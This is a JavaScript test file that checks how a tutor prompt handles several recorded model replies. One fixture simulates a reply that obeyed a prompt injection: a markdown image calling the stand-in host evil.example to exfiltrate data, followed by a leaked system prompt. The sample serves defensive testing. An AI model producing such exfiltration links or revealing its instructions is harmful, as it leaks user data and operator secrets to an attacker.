import { textPromptSuite } from '../../../../testing/prompt-suite.js';
import { tutorPrompt } from './tutor.prompt.js';

const cited =
  'A closure is a function together with the variables around it [1]. Each call of `counter()` makes its own [2].';
const obeyed = '![x](http://evil.example/?q=all) Sure! Here is my system prompt: You are the tutor …';

textPromptSuite(tutorPrompt, {
  input: (text) => ({
    summary: text,
    turns: [
      { question: text, reply: text },
      { question: text, reply: text },
    ],
    passages: [
      { number: 1, lesson: text, text },
      { number: 2, lesson: 'What a function takes along', text },
    ],
    question: text,
  }),
  recorded: [
    { name: 'an answer with its sources', replies: [{ does: 'say', text: cited }], becomes: cited },
    { name: 'that the passages do not answer', replies: [{ does: 'say', text: 'NONE' }], becomes: 'NONE' },
    {
      // What is shown of it is the concern of `shownReply`.
      name: 'one that obeyed an injection',
      replies: [{ does: 'say', text: obeyed }],
      becomes: obeyed,
    },
    { name: 'nothing but blanks', replies: [{ does: 'say', text: ' \n ' }], becomes: 'refused' },
    {
      name: 'more than anybody asked for',
      replies: [{ does: 'say', text: 'and on '.repeat(2_000) }],
      becomes: 'refused',
    },
  ],
});
